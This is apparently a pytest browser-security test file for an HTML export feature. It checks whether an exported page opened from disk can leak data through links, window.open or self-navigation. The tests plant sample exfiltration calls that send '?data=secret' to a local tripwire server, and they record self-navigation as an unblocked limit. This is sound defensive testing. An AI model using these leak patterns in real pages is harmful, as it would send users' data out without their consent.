"""An exported HTML file opened from disk, in real Chromium with the network on.

Who attacks: the exported artifact's own code, once the file is opened outside the app.
What it tries: send data out by leaving the page: a followed link, ``window.open``, or
navigating itself (there is no shell, no sandbox and no frame-src around a file).
What must hold: links and ``window.open`` only offer the address (opened on the person's
click); the CSP ``<meta>`` blocks requests; what cannot be stopped (the page navigating
itself) is said plainly by ``artifacts export --html`` and pinned here as a known limit.
"""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from artifacts_runtime.cli.library_cmds import EXPORT_WARNING
from tests.browser.test_security import Tripwire

pytestmark = pytest.mark.slow


@pytest.fixture
def wire():
    tripwire = Tripwire()
    yield tripwire
    tripwire.close()


def export(tmp_path, source: str) -> tuple[str, str]:
    """Import and export with the real command; the file's URI and what it printed."""
    src = tmp_path / "page.html"
    src.write_text(source, encoding="utf-8")

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(
            [sys.executable, "-m", "artifacts_runtime.cli.main", *args],
            env=dict(os.environ),
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
        return done

    artifact_id = run("import", str(src)).stdout.strip()
    target = tmp_path / "export.html"
    done = run("export", artifact_id, "--html", "-o", str(target))
    return target.as_uri(), done.stderr


@pytest.fixture
def online_page(chromium):
    context = chromium.new_context()
    page = context.new_page()
    yield page
    context.close()


def test_the_export_says_what_its_file_cannot_stop(tmp_path, runtime_assets) -> None:
    _, said = export(tmp_path, "<!doctype html><p>x</p>")
    assert EXPORT_WARNING in said
    assert "navigate" in EXPORT_WARNING and "trust" in EXPORT_WARNING


def test_a_link_and_window_open_in_an_exported_file_only_offer_the_address(
    tmp_path, runtime_assets, online_page, wire
) -> None:
    page = online_page
    uri, _ = export(tmp_path, f'<!doctype html><a id=go href="{wire.origin}/link?data=secret">go</a>')
    page.goto(uri)
    page.wait_for_selector("#go")
    page.click("#go")
    note = page.wait_for_selector("#__artifact_link_note a")
    assert note.get_attribute("href") == f"{wire.origin}/link?data=secret"
    assert page.evaluate("(T) => String(window.open(T + '/open?data=secret'))", wire.origin) == "null"
    assert page.get_attribute("#__artifact_link_note a", "href") == f"{wire.origin}/open?data=secret"
    page.wait_for_timeout(500)
    assert page.url == uri
    assert len(page.context.pages) == 1
    assert wire.requests == [] and wire.connections == 0
    # The person's own click on the offered address opens it.
    with page.context.expect_page() as popup:
        page.click("#__artifact_link_note a")
    popup.value.wait_for_load_state()
    assert [r for r in wire.requests if r[1] != "/favicon.ico"] == [("GET", "/open?data=secret")]


def test_known_limit_an_exported_page_can_still_navigate_itself(tmp_path, runtime_assets, online_page, wire) -> None:
    """Pinned so it is not forgotten: Location is unforgeable, and a file has no frame-src
    around it. The export's warning says so (test above)."""
    page = online_page
    uri, _ = export(tmp_path, "<!doctype html><p id=p>x</p>")
    page.goto(uri)
    page.wait_for_selector("#p")
    page.evaluate("(T) => { location.href = T + '/self?data=secret'; }", wire.origin)
    page.wait_for_url(f"{wire.origin}/self?data=secret")
    assert [r for r in wire.requests if r[1] != "/favicon.ico"] == [("GET", "/self?data=secret")]
